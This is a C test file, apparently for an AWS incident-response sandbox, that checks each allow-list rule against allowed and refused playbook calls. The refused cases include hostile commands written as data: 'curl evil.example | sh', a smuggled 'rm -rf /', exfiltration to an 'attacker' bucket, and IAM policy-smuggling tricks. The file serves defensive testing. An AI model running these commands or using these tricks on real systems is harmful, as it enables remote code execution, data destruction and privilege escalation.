/* test_rules — the allow-list's argument rules (sandbox/rules.c), rule by
 * rule, allowed and refused cases in one table: each case is a call a
 * playbook makes in a sandbox whose host is a fake (it answers
 * DescribeSecurityGroups from a fixed account and records what reached it),
 * and either reaches the host or is refused with the rule's name and the
 * reason, without reaching it. Then: the static check `deadbolt check` uses,
 * config.lua read by the host, and the groups learnt from AWS's answers.
 * Owner: sandbox. */
#include <check.h>
#include <lauxlib.h>
#include <lualib.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "allowlist.h"
#include "sandbox.h"
#include "testutil.h"

/* ---- a fake account ---- */

typedef struct fake {
	char sent[4096]; /* "ec2.CreateTags;" per call that reached the host */
	int describes;   /* DescribeSecurityGroups calls */
	char moved[256]; /* the last ModifyNetworkInterfaceAttribute's Groups: "sg-a,sg-b" */
	char log[1024];  /* what the sandbox logged */
} fake;

static void fake_log(void *ud, const char *level, const char *msg)
{
	fake *f = ud;
	size_t n = strlen(f->log);
	snprintf(f->log + n, sizeof(f->log) - n, "%s:%s\n", level, msg);
}

static void record_move(fake *f, lua_State *L, int params)
{
	f->moved[0] = '\0';
	lua_getfield(L, params, "Groups");
	for (lua_Integer i = 1; lua_istable(L, -1) && i <= (lua_Integer)lua_rawlen(L, -1); i++) {
		size_t n = strlen(f->moved);
		lua_rawgeti(L, -1, i);
		snprintf(f->moved + n, sizeof(f->moved) - n, "%s%s", n ? "," : "", lua_tostring(L, -1));
		lua_pop(L, 1);
	}
	lua_pop(L, 1);
}

/* The account's groups: id, deadbolt:group tag value (NULL: none). */
static const struct {
	const char *id, *tag;
} groups[] = {
	{"sg-0150", "isolation"}, {"sg-07a1", "untrack"}, {"sg-0prod", NULL}, {"sg-0odd", "other"},
};

static void push_group(lua_State *L, const char *id, const char *tag)
{
	lua_createtable(L, 0, 2);
	lua_pushstring(L, id);
	lua_setfield(L, -2, "GroupId");
	lua_createtable(L, 1, 0);
	if (tag) {
		lua_createtable(L, 0, 2);
		lua_pushliteral(L, "deadbolt:group");
		lua_setfield(L, -2, "Key");
		lua_pushstring(L, tag);
		lua_setfield(L, -2, "Value");
		lua_rawseti(L, -2, 1);
	}
	lua_setfield(L, -2, "Tags");
}

/* { SecurityGroups = the groups whose id is in GroupIds (all without) } */
static void describe_groups(lua_State *L, int params)
{
	int n = 0;
	lua_newtable(L);
	lua_newtable(L);
	for (size_t i = 0; i < sizeof(groups) / sizeof(groups[0]); i++) {
		int wanted = 1;
		if (lua_getfield(L, params, "GroupIds") == LUA_TTABLE) {
			lua_rawgeti(L, -1, 1);
			wanted = strcmp(lua_tostring(L, -1), groups[i].id) == 0;
			lua_pop(L, 1);
		}
		lua_pop(L, 1);
		if (wanted) {
			push_group(L, groups[i].id, groups[i].tag);
			lua_rawseti(L, -2, ++n);
		}
	}
	lua_setfield(L, -2, "SecurityGroups");
}

/* { NetworkInterfaceId = id, Groups = { {GroupId = g1}, {GroupId = g2} } } */
static void push_eni(lua_State *L, const char *id, const char *g1, const char *g2)
{
	lua_createtable(L, 0, 2);
	lua_pushstring(L, id);
	lua_setfield(L, -2, "NetworkInterfaceId");
	lua_newtable(L);
	for (int i = 0; i < 2; i++) {
		const char *g = i ? g2 : g1;
		if (!g)
			continue;
		lua_createtable(L, 0, 1);
		lua_pushstring(L, g);
		lua_setfield(L, -2, "GroupId");
		lua_rawseti(L, -2, i + 1);
	}
	lua_setfield(L, -2, "Groups");
}

/* DescribeInstances: eni-1 in sg-0prod and sg-0web; DescribeNetworkInterfaces:
 * eni-1 in deadbolt's isolation group (as after a first run). */
static void describe_enis(lua_State *L, int instances)
{
	lua_newtable(L);
	lua_newtable(L);
	push_eni(L, "eni-1", instances ? "sg-0prod" : "sg-0150", instances ? "sg-0web" : NULL);
	lua_rawseti(L, -2, 1);
	if (!instances) {
		lua_setfield(L, -2, "NetworkInterfaces");
		return;
	}
	lua_createtable(L, 0, 1);
	lua_insert(L, -2);
	lua_setfield(L, -2, "NetworkInterfaces"); /* the instance */
	lua_createtable(L, 1, 0);
	lua_insert(L, -2);
	lua_rawseti(L, -2, 1); /* Instances */
	lua_createtable(L, 0, 1);
	lua_insert(L, -2);
	lua_setfield(L, -2, "Instances"); /* the reservation */
	lua_createtable(L, 1, 0);
	lua_insert(L, -2);
	lua_rawseti(L, -2, 1);
	lua_setfield(L, -2, "Reservations");
}

static int fake_call(void *ud, lua_State *L, const allow_entry *e, int params, aws_error *err)
{
	fake *f = ud;
	size_t n = strlen(f->sent);
	snprintf(f->sent + n, sizeof(f->sent) - n, "%s.%s;", e->service, e->operation);
	if (strcmp(e->operation, "DescribeSecurityGroups") == 0) {
		f->describes++;
		describe_groups(L, params);
	} else if (strcmp(e->operation, "ModifyNetworkInterfaceAttribute") == 0) {
		record_move(f, L, params);
		lua_newtable(L);
	} else if (strcmp(e->operation, "DescribeInstances") == 0) {
		describe_enis(L, 1);
	} else if (strcmp(e->operation, "DescribeNetworkInterfaces") == 0) {
		describe_enis(L, 0);
	} else if (strcmp(e->operation, "CreateSecurityGroup") == 0) {
		lua_newtable(L);
		lua_pushliteral(L, "sg-0new");
		lua_setfield(L, -2, "GroupId");
	} else {
		lua_newtable(L);
	}
	return 0;
}

static sandbox_config config;
static char *commands[] = {"uname -a", "ps auxww"};
static char *endpoint_groups[] = {"sg-0e0d"};
static char *prefix_lists[] = {"pl-63a5400a"};

static sandbox *new_sandbox(fake *f, int restore)
{
	sandbox_host host = {fake_call, fake_log, f};
	char err[256];
	sandbox *sb = sandbox_new(NULL, &host, NULL, err, sizeof(err));
	ck_assert_msg(sb != NULL, "%s", err);
	config.document = "AWS-RunShellScript";
	config.commands = commands;
	config.ncommands = 2;
	config.policy_name = "AWSRevokeOlderSessions";
	config.endpoint_groups = endpoint_groups;
	config.nendpoint_groups = 1;
	config.prefix_lists = prefix_lists;
	config.nprefix_lists = 1;
	sandbox_run run = {.artifact_bucket = "artifacts", .account = "123456789012",
			   .region = "us-east-1", .finding_id = "f00d",
			   .quarantine_profile_arn = "arn:aws:iam::123456789012:instance-profile/q",
			   .topic_arn = "arn:aws:sns:us-east-1:123456789012:deadbolt",
			   .config = &config, .restore = restore};
	sandbox_set_run(sb, &run);
	return sb;
}

/* Runs src; returns the status, the error in err. */
static sandbox_status run_src(sandbox *sb, const char *src, char *err, size_t errlen)
{
	lua_State *L = sandbox_lua(sb);
	ck_assert_msg(luaL_loadbufferx(L, src, strlen(src), "=case", "t") == LUA_OK, "%s",
		      lua_tostring(L, -1));
	return sandbox_pcall(sb, 0, 0, err, errlen);
}

/* ---- the table ---- */

#define OK NULL
#define POLICY(effect) \
	"'{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"" effect "\"," \
	"\"Action\":\"*\",\"Resource\":\"*\"}]}'"

static const struct rule_case {
	const char *name;
	const char *call;   /* one primitive call */
	const char *refuse; /* NULL: allowed (it reaches the host); else the error says this */
} cases[] = {
	/* deny-only */
	{"a deny policy", "iam.put_user_policy{ UserName = 'u', PolicyName = 'AWSRevokeOlderSessions', "
	 "PolicyDocument = " POLICY("Deny") " }", OK},
	{"a deny with NotAction only narrows", "iam.put_role_policy{ RoleName = 'r', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":{\"Effect\":\"Deny\","
	 "\"NotAction\":[\"iam:Get*\"],\"NotResource\":\"arn:aws:s3:::x\",\"Condition\":{}}}' }", OK},
	{"an Allow *:* policy", "iam.put_user_policy{ UserName = 'u', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = " POLICY("Allow") " }",
	 "refused by rule deny-only: statement 1: Effect is \"Allow\""},
	{"an Allow hidden after a Deny", "iam.put_user_policy{ UserName = 'u', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":[{\"Effect\":\"Deny\",\"Action\":"
	 "\"*\",\"Resource\":\"*\"},{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}' }",
	 "statement 2: Effect is \"Allow\""},
	{"a duplicate Effect key", "iam.put_user_policy{ UserName = 'u', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":[{\"Effect\":\"Deny\",\"Effect\":"
	 "\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}' }", "member Effect appears twice"},
	{"a lower-case effect key", "iam.put_user_policy{ UserName = 'u', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":[{\"effect\":\"Allow\",\"Effect\":"
	 "\"Deny\",\"Action\":\"*\",\"Resource\":\"*\"}]}' }", "member \"effect\" is not allowed"},
	{"a Deny with a NUL and more after it", "iam.put_user_policy{ UserName = 'u', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":{\"Effect\":\"Deny\\\\u0000Allow\",'"
	 " .. '\"Action\":\"*\",\"Resource\":\"*\"}}' }", "may only deny"},
	{"a malformed document", "iam.put_role_policy{ RoleName = 'r', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":[' }", "is not valid JSON"},
	{"no statement", "iam.put_role_policy{ RoleName = 'r', PolicyName = 'AWSRevokeOlderSessions', "
	 "PolicyDocument = '{\"Version\":\"2012-10-17\"}' }", "has no Statement"},
	{"an effect that is not a string", "iam.put_user_policy{ UserName = 'u', PolicyName = "
	 "'AWSRevokeOlderSessions', PolicyDocument = '{\"Statement\":{\"Effect\":[\"Deny\"],"
	 "\"Action\":\"*\",\"Resource\":\"*\"}}' }", "may only deny"},
	{"another policy's name", "iam.put_user_policy{ UserName = 'u', PolicyName = 'AdminAccess', "
	 "PolicyDocument = " POLICY("Deny") " }", "is not config.iam.revoke_policy_name"},
	/* evidence-object */
	{"evidence under the run's prefix", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d/manifest.json', Body = 'x', IfNoneMatch = '*' }", OK},
	{"another bucket", "s3.put_object{ Bucket = 'prod-data', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d/m.json', Body = 'x', IfNoneMatch = '*' }",
	 "refused by rule evidence-object: bucket prod-data is not the artifact bucket"},
	{"another finding's prefix", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/beef/manifest.json', Body = 'x', IfNoneMatch = '*' }",
	 "is not under this run's prefix"},
	{"outside evidence/", "s3.put_object{ Bucket = 'artifacts', Key = 'journal/2024/run.jsonl', "
	 "Body = 'x', IfNoneMatch = '*' }", "is not under this run's prefix"},
	{"a dot-dot segment", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d/../../x', Body = 'x', IfNoneMatch = '*' }",
	 "\"..\" segment"},
	{"the prefix itself, no object name", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d', Body = 'x', IfNoneMatch = '*' }",
	 "is not under this run's prefix"},
	{"an overwrite (no IfNoneMatch)", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d/m.json', Body = 'x' }",
	 "IfNoneMatch must be \"*\""},
	{"a public object", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d/m.json', Body = 'x', IfNoneMatch = '*', "
	 "ACL = 'public-read' }", "member ACL is not allowed"},
	{"a control character in the key", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'evidence/123456789012/us-east-1/i-0abc/f00d/a\\nb', Body = 'x', IfNoneMatch = '*' }",
	 "control character"},
	/* evidence-object: per-resource locks */
	{"a lock on the run's account and region", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'locks/123456789012/us-east-1/i-0abc/29512345.lock', Body = 'x', IfNoneMatch = '*' }", OK},
	{"a lock overwritten (no IfNoneMatch)", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'locks/123456789012/us-east-1/i-0abc/29512345.lock', Body = 'x' }", "IfNoneMatch must be \"*\""},
	{"a lock of another account", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'locks/210987654321/us-east-1/i-0abc/1.lock', Body = 'x', IfNoneMatch = '*' }",
	 "is not under this run's prefix locks/"},
	{"a lock of another region", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'locks/123456789012/eu-west-1/i-0abc/1.lock', Body = 'x', IfNoneMatch = '*' }",
	 "is not under this run's prefix locks/"},
	{"a lock with no object under the resource", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'locks/123456789012/us-east-1/i-0abc', Body = 'x', IfNoneMatch = '*' }",
	 "is not under this run's prefix locks/"},
	{"a lock key climbing out", "s3.put_object{ Bucket = 'artifacts', Key = "
	 "'locks/123456789012/us-east-1/../../evidence/x', Body = 'x', IfNoneMatch = '*' }",
	 "\"..\" segment"},
	{"a lock in another bucket", "s3.put_object{ Bucket = 'prod-data', Key = "
	 "'locks/123456789012/us-east-1/i-0abc/1.lock', Body = 'x', IfNoneMatch = '*' }",
	 "is not the artifact bucket"},
	/* block-all */
	{"every block on", "s3.put_public_access_block{ Bucket = 'b', PublicAccessBlockConfiguration = "
	 "{ BlockPublicAcls = true, IgnorePublicAcls = true, BlockPublicPolicy = true, "
	 "RestrictPublicBuckets = true } }", OK},
	{"every block off", "s3.put_public_access_block{ Bucket = 'b', PublicAccessBlockConfiguration = "
	 "{ BlockPublicAcls = false, IgnorePublicAcls = false, BlockPublicPolicy = false, "
	 "RestrictPublicBuckets = false } }", "refused by rule block-all: BlockPublicAcls must be true"},
	{"one block left out", "s3.put_public_access_block{ Bucket = 'b', PublicAccessBlockConfiguration = "
	 "{ BlockPublicAcls = true, IgnorePublicAcls = true, BlockPublicPolicy = true } }",
	 "RestrictPublicBuckets must be true"},
	/* account-block-all */
	{"the run's account, every block on", "s3control.put_public_access_block{ AccountId = "
	 "'123456789012', PublicAccessBlockConfiguration = { BlockPublicAcls = true, "
	 "IgnorePublicAcls = true, BlockPublicPolicy = true, RestrictPublicBuckets = true } }", OK},
	{"another account's block", "s3control.put_public_access_block{ AccountId = '999999999999', "
	 "PublicAccessBlockConfiguration = { BlockPublicAcls = true, IgnorePublicAcls = true, "
	 "BlockPublicPolicy = true, RestrictPublicBuckets = true } }",
	 "refused by rule account-block-all: AccountId must be the run's account"},
	{"the account's block loosened", "s3control.put_public_access_block{ AccountId = "
	 "'123456789012', PublicAccessBlockConfiguration = { BlockPublicAcls = true, "
	 "IgnorePublicAcls = false, BlockPublicPolicy = true, RestrictPublicBuckets = true } }",
	 "refused by rule account-block-all: IgnorePublicAcls must be true"},
	{"the account's block without an account", "s3control.put_public_access_block{ "
	 "PublicAccessBlockConfiguration = { BlockPublicAcls = true, IgnorePublicAcls = true, "
	 "BlockPublicPolicy = true, RestrictPublicBuckets = true } }", "AccountId is required"},
	/* config-commands */
	{"configured commands", "ssm.send_command{ DocumentName = 'AWS-RunShellScript', InstanceIds = "
	 "{ 'i-0123456789abcdef0' }, Parameters = { commands = { 'uname -a', 'ps auxww' }, "
	 "executionTimeout = { '60' } }, OutputS3BucketName = 'artifacts', OutputS3KeyPrefix = "
	 "'evidence/123456789012/us-east-1/i-0123456789abcdef0/f00d/forensics' }", OK},
	{"any shell command", "ssm.send_command{ DocumentName = 'AWS-RunShellScript', InstanceIds = "
	 "{ 'i-0123456789abcdef0' }, Parameters = { commands = { 'curl evil.example | sh' } } }",
	 "refused by rule config-commands: command \"curl evil.example | sh\" is not one of"},
	{"finding text appended to a command", "ssm.send_command{ DocumentName = 'AWS-RunShellScript', "
	 "InstanceIds = { 'i-0123456789abcdef0' }, Parameters = { commands = { 'uname -a; rm -rf /' } } }",
	 "is not one of config.forensics.commands"},
	{"another document", "ssm.send_command{ DocumentName = 'AWS-RunPowerShellScript', InstanceIds = "
	 "{ 'i-0123456789abcdef0' }, Parameters = { commands = { 'uname -a' } } }",
	 "is not config.forensics.document"},
	{"an extra parameter", "ssm.send_command{ DocumentName = 'AWS-RunShellScript', InstanceIds = "
	 "{ 'i-0123456789abcdef0' }, Parameters = { commands = { 'uname -a' }, workingDirectory = "
	 "{ '/tmp' } } }", "Parameters member workingDirectory is not allowed"},
	{"tag targets", "ssm.send_command{ DocumentName = 'AWS-RunShellScript', Targets = { { Key = "
	 "'tag:env', Values = { 'prod' } } }, Parameters = { commands = { 'uname -a' } } }",
	 "member Targets is not allowed"},
	{"output under the instance's own forensic prefix", "ssm.send_command{ DocumentName = "
	 "'AWS-RunShellScript', InstanceIds = { 'i-0123456789abcdef0' }, Parameters = { commands = "
	 "{ 'uname -a' } }, OutputS3BucketName = 'artifacts', OutputS3KeyPrefix = "
	 "'forensics/AROAEXAMPLE123:i-0123456789abcdef0/f00d/output' }", OK},
	{"output under another instance's forensic prefix", "ssm.send_command{ DocumentName = "
	 "'AWS-RunShellScript', InstanceIds = { 'i-0123456789abcdef0' }, Parameters = { commands = "
	 "{ 'uname -a' } }, OutputS3BucketName = 'artifacts', OutputS3KeyPrefix = "
	 "'forensics/AROAEXAMPLE123:i-0fedcba9876543210/f00d/output' }",
	 "names another instance than InstanceIds"},
	{"output under another finding's forensic prefix", "ssm.send_command{ DocumentName = "
	 "'AWS-RunShellScript', InstanceIds = { 'i-0123456789abcdef0' }, Parameters = { commands = "
	 "{ 'uname -a' } }, OutputS3BucketName = 'artifacts', OutputS3KeyPrefix = "
	 "'forensics/AROAEXAMPLE123:i-0123456789abcdef0/beef/output' }", "is not under this run's prefix"},
	{"one forensic prefix for two instances", "ssm.send_command{ DocumentName = "
	 "'AWS-RunShellScript', InstanceIds = { 'i-0123456789abcdef0', 'i-0fedcba9876543210' }, "
	 "Parameters = { commands = { 'uname -a' } }, OutputS3BucketName = 'artifacts', "
	 "OutputS3KeyPrefix = 'forensics/AROAEXAMPLE123:i-0123456789abcdef0/f00d/output' }",
	 "InstanceIds must name one"},
	{"a forensic prefix without a role id", "ssm.send_command{ DocumentName = "
	 "'AWS-RunShellScript', InstanceIds = { 'i-0123456789abcdef0' }, Parameters = { commands = "
	 "{ 'uname -a' } }, OutputS3BucketName = 'artifacts', OutputS3KeyPrefix = "
	 "'forensics/i-0123456789abcdef0/f00d/output' }", "followed by <role id>:<instance id>"},
	{"output to another bucket", "ssm.send_command{ DocumentName = 'AWS-RunShellScript', InstanceIds = "
	 "{ 'i-0123456789abcdef0' }, Parameters = { commands = { 'uname -a' } }, OutputS3BucketName = "
	 "'attacker', OutputS3KeyPrefix = 'x' }", "OutputS3BucketName must be the artifact bucket"},
	/* ingress-own-group, egress-own-group, revoke-own-group, eni-own-groups */
	{"ingress on the untrack group", "ec2.authorize_security_group_ingress{ GroupId = 'sg-07a1', "
	 "IpPermissions = { { IpProtocol = '-1', IpRanges = { { CidrIp = '0.0.0.0/0' } } } } }", OK},
	{"ingress on a production group", "ec2.authorize_security_group_ingress{ GroupId = 'sg-0prod', "
	 "IpPermissions = { { IpProtocol = '-1', IpRanges = { { CidrIp = '0.0.0.0/0' } } } } }",
	 "refused by rule ingress-own-group: group sg-0prod is not one deadbolt created"},
	{"ingress on the isolation group", "ec2.authorize_security_group_ingress{ GroupId = 'sg-0150', "
	 "IpPermissions = { { IpProtocol = 'tcp', FromPort = 22, ToPort = 22 } } }",
	 "isolation group: it never gets ingress"},
	{"a group tagged with another value", "ec2.authorize_security_group_ingress{ GroupId = 'sg-0odd', "
	 "IpPermissions = {} }", "is not one deadbolt created"},
	{"ingress by group name", "ec2.authorize_security_group_ingress{ GroupName = 'default', "
	 "IpPermissions = {} }", "member GroupName is not allowed"},
	{"egress to an endpoint group", "ec2.authorize_security_group_egress{ GroupId = 'sg-0150', "
	 "IpPermissions = { { IpProtocol = 'tcp', FromPort = 443, ToPort = 443, UserIdGroupPairs = "
	 "{ { GroupId = 'sg-0e0d' } }, PrefixListIds = { { PrefixListId = 'pl-63a5400a' } } } } }", OK},
	{"isolation egress to 0.0.0.0/0", "ec2.authorize_security_group_egress{ GroupId = 'sg-0150', "
	 "IpPermissions = { { IpProtocol = 'tcp', FromPort = 443, ToPort = 443, IpRanges = "
	 "{ { CidrIp = '0.0.0.0/0' } } } } }", "never to an address range (IpRanges)"},
	{"isolation egress to ::/0", "ec2.authorize_security_group_egress{ GroupId = 'sg-0150', "
	 "IpPermissions = { { IpProtocol = 'tcp', FromPort = 443, ToPort = 443, Ipv6Ranges = "
	 "{ { CidrIpv6 = '::/0' } } } } }", "never to an address range (Ipv6Ranges)"},
	{"isolation egress to a group config does not name", "ec2.authorize_security_group_egress{ "
	 "GroupId = 'sg-0150', IpPermissions = { { IpProtocol = 'tcp', FromPort = 443, ToPort = 443, "
	 "UserIdGroupPairs = { { GroupId = 'sg-0prod' } } } } }",
	 "sg-0prod is not an endpoint config.forensics.egress names"},
	{"isolation egress to a prefix list config does not name", "ec2.authorize_security_group_egress{ "
	 "GroupId = 'sg-0150', IpPermissions = { { IpProtocol = 'tcp', FromPort = 443, ToPort = 443, "
	 "PrefixListIds = { { PrefixListId = 'pl-0wide' } } } } }", "pl-0wide is not an endpoint"},
	{"isolation egress on every port", "ec2.authorize_security_group_egress{ GroupId = 'sg-0150', "
	 "IpPermissions = { { IpProtocol = '-1', UserIdGroupPairs = { { GroupId = 'sg-0e0d' } } } } }",
	 "tcp/443 only"},
	{"all egress on the untrack group", "ec2.authorize_security_group_egress{ GroupId = 'sg-07a1', "
	 "IpPermissions = { { IpProtocol = '-1', Ipv6Ranges = { { CidrIpv6 = '::/0' } } } } }", OK},
	{"egress on a production group", "ec2.authorize_security_group_egress{ GroupId = 'sg-0prod', "
	 "IpPermissions = { { IpProtocol = '-1', IpRanges = { { CidrIp = '0.0.0.0/0' } } } } }",
	 "refused by rule egress-own-group: group sg-0prod is not one deadbolt created"},
	{"revoke on the isolation group", "ec2.revoke_security_group_egress{ GroupId = 'sg-0150', "
	 "IpPermissions = { { IpProtocol = '-1' } } }", OK},
	{"revoke on a production group", "ec2.revoke_security_group_egress{ GroupId = 'sg-0prod', "
	 "IpPermissions = { { IpProtocol = '-1' } } }", "refused by rule revoke-own-group"},
	{"an ENI into deadbolt's isolation group", "ec2.modify_network_interface_attribute{ "
	 "NetworkInterfaceId = 'eni-1', Groups = { 'sg-0150' } }", OK},
	{"an unseen ENI into the allow-all group", "ec2.modify_network_interface_attribute{ "
	 "NetworkInterfaceId = 'eni-1', Groups = { 'sg-07a1' } }", "describe the instance first"},
	{"an ENI into a production group", "ec2.modify_network_interface_attribute{ NetworkInterfaceId = "
	 "'eni-1', Groups = { 'sg-0150', 'sg-0prod' } }",
	 "refused by rule eni-own-groups: group sg-0prod is not one deadbolt created"},
	{"an ENI's source/dest check", "ec2.modify_network_interface_attribute{ NetworkInterfaceId = "
	 "'eni-1', SourceDestCheck = { Value = false } }", "member SourceDestCheck is not allowed"},
	/* new-group, no-group-tag */
	{"a new group with deadbolt's tag", "ec2.create_security_group{ GroupName = 'g', Description = "
	 "'d', TagSpecifications = { { ResourceType = 'security-group', Tags = { { Key = "
	 "'deadbolt:group', Value = 'isolation' } } } } }", OK},
	{"deadbolt's tag with an unknown role", "ec2.create_security_group{ GroupName = 'g', Description "
	 "= 'd', TagSpecifications = { { ResourceType = 'security-group', Tags = { { Key = "
	 "'deadbolt:group', Value = 'admin' } } } } }", "refused by rule new-group"},
	{"deadbolt's tag on an existing group", "ec2.create_tags{ Resources = { 'sg-0prod' }, Tags = "
	 "{ { Key = 'deadbolt:group', Value = 'untrack' } } }",
	 "refused by rule no-group-tag: the tag deadbolt:group is deadbolt's mark"},
	{"deadbolt's tag in another case", "ec2.create_tags{ Resources = { 'sg-0prod' }, Tags = "
	 "{ { Key = 'Deadbolt:Group', Value = 'untrack' } } }", "refused by rule no-group-tag"},
	{"other tags", "ec2.create_tags{ Resources = { 'i-1' }, Tags = { { Key = 'deadbolt:status', "
	 "Value = 'contained' } } }", OK},
	{"deadbolt's tag on a snapshot", "ec2.create_snapshot{ VolumeId = 'vol-1', TagSpecifications = "
	 "{ { ResourceType = 'snapshot', Tags = { { Key = 'deadbolt:group', Value = 'untrack' } } } } }",
	 "refused by rule no-group-tag"},
	/* protect-only, quarantine-profile, keep-capacity, deactivate-only, own-topic */
	{"protections on", "ec2.modify_instance_attribute{ InstanceId = 'i-1', DisableApiTermination = "
	 "{ Value = true } }", OK},
	{"protection off", "ec2.modify_instance_attribute{ InstanceId = 'i-1', DisableApiTermination = "
	 "{ Value = false } }", "refused by rule protect-only: DisableApiTermination may only be set to true"},
	{"shutdown terminates", "ec2.modify_instance_attribute{ InstanceId = 'i-1', "
	 "InstanceInitiatedShutdownBehavior = { Value = 'terminate' } }", "may only be set to \"stop\""},
	{"new user data", "ec2.modify_instance_attribute{ InstanceId = 'i-1', UserData = { Value = 'x' } }",
	 "member UserData is not allowed"},
	{"volumes deleted on termination", "ec2.modify_instance_attribute{ InstanceId = 'i-1', "
	 "BlockDeviceMappings = { { DeviceName = '/dev/sda1', Ebs = { DeleteOnTermination = true } } } }",
	 "DeleteOnTermination may only be set to false"},
	{"the quarantine profile", "ec2.associate_iam_instance_profile{ InstanceId = 'i-1', "
	 "IamInstanceProfile = { Arn = 'arn:aws:iam::123456789012:instance-profile/q' } }", OK},
	{"an admin profile", "ec2.associate_iam_instance_profile{ InstanceId = 'i-1', "
	 "IamInstanceProfile = { Arn = 'arn:aws:iam::123456789012:instance-profile/admin' } }",
	 "refused by rule quarantine-profile"},
	{"a profile by name", "ec2.associate_iam_instance_profile{ InstanceId = 'i-1', "
	 "IamInstanceProfile = { Name = 'q' } }", "IamInstanceProfile member Name is not allowed"},
	{"detached keeping capacity", "autoscaling.detach_instances{ InstanceIds = { 'i-1' }, "
	 "AutoScalingGroupName = 'g', ShouldDecrementDesiredCapacity = false }", OK},
	{"detached shrinking the group", "autoscaling.detach_instances{ InstanceIds = { 'i-1' }, "
	 "AutoScalingGroupName = 'g', ShouldDecrementDesiredCapacity = true }", "refused by rule keep-capacity"},
	{"a key deactivated", "iam.update_access_key{ UserName = 'u', AccessKeyId = 'AKIA1', Status = "
	 "'Inactive' }", OK},
	{"a key activated", "iam.update_access_key{ UserName = 'u', AccessKeyId = 'AKIA1', Status = "
	 "'Active' }", "refused by rule deactivate-only"},
	{"the notification topic", "sns.publish{ TopicArn = 'arn:aws:sns:us-east-1:123456789012:deadbolt', "
	 "Message = 'm' }", OK},
	{"another account's topic", "sns.publish{ TopicArn = 'arn:aws:sns:us-east-1:999999999999:leak', "
	 "Message = 'm' }", "refused by rule own-topic"},
	{"a phone number", "sns.publish{ PhoneNumber = '+15555550100', Message = 'm' }",
	 "member PhoneNumber is not allowed"},
};

START_TEST(test_each_rule_allows_and_refuses)
{
	const struct rule_case *c = &cases[_i];
	fake f = {{0}, 0, {0}, {0}};
	char err[2048] = "", op[128];
	sandbox *sb = new_sandbox(&f, 0);
	sandbox_status st = run_src(sb, c->call, err, sizeof(err));
	sandbox_free(sb);
	/* "ec2.authorize_security_group_ingress{" -> was its operation sent? */
	snprintf(op, sizeof(op), "%.*s", (int)strcspn(c->call, "{"), c->call);
	if (!c->refuse) {
		ck_assert_msg(st == SANDBOX_OK, "%s: refused: %s", c->name, err);
		ck_assert_msg(f.sent[0], "%s: nothing reached the host", c->name);
		return;
	}
	ck_assert_msg(st == SANDBOX_ERROR, "%s: allowed (sent %s)", c->name, f.sent);
	ck_assert_msg(strstr(err, c->refuse), "%s: error '%s' does not say '%s'", c->name, err, c->refuse);
	/* Nothing but the sandbox's own DescribeSecurityGroups reached AWS. */
	ck_assert_msg(strstr(f.sent, "DescribeSecurityGroups") || !f.sent[0],
		      "%s: sent %s", c->name, f.sent);
	ck_assert_msg(!strstr(f.sent, "Authorize") && !strstr(f.sent, "Put") &&
			      !strstr(f.sent, "SendCommand") && !strstr(f.sent, "Publish") &&
			      !strstr(f.sent, "Modify") && !strstr(f.sent, "Create"),
		      "%s: %s reached the host: %s", c->name, op, f.sent);
}
END_TEST

START_TEST(test_every_write_declares_a_rule_and_why)
{
	for (size_t i = 0; i < allowlist_count(); i++) {
		const allow_entry *e = allowlist_at(i);
		if (e->access == ALLOW_READ) {
			ck_assert_int_eq(e->rule, RULE_NONE);
			continue;
		}
		ck_assert_msg(e->rule != RULE_NONE && e->rule_why && *e->rule_why, "%s.%s has no rule",
			      e->service, e->operation);
		ck_assert_str_ne(allow_rule_name(e->rule), "unknown");
	}
}
END_TEST

START_TEST(test_groups_seen_in_answers_cost_no_extra_call)
{
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "";
	sandbox *sb = new_sandbox(&f, 0);
	ck_assert_int_eq(run_src(sb,
		"ec2.describe_security_groups{}\n"
		"ec2.authorize_security_group_ingress{ GroupId = 'sg-07a1', IpPermissions = {} }\n"
		"ec2.revoke_security_group_egress{ GroupId = 'sg-0150', IpPermissions = {} }\n",
		err, sizeof(err)), SANDBOX_OK);
	ck_assert_int_eq(f.describes, 1);
	/* a group this run created is known from the answer */
	ck_assert_int_eq(run_src(sb,
		"local g = ec2.create_security_group{ GroupName = 'x', Description = 'x', "
		"  TagSpecifications = { { ResourceType = 'security-group', "
		"  Tags = { { Key = 'deadbolt:group', Value = 'untrack' } } } } }\n"
		"ec2.authorize_security_group_ingress{ GroupId = g.GroupId, IpPermissions = {} }\n",
		err, sizeof(err)), SANDBOX_OK);
	ck_assert_int_eq(f.describes, 1);
	sandbox_free(sb);
}
END_TEST

START_TEST(test_a_group_created_without_the_tag_is_not_deadbolts)
{
	fake f = {{0}, 0, {0}, {0}};
	char err[1024] = "";
	sandbox *sb = new_sandbox(&f, 0);
	ck_assert_int_eq(run_src(sb,
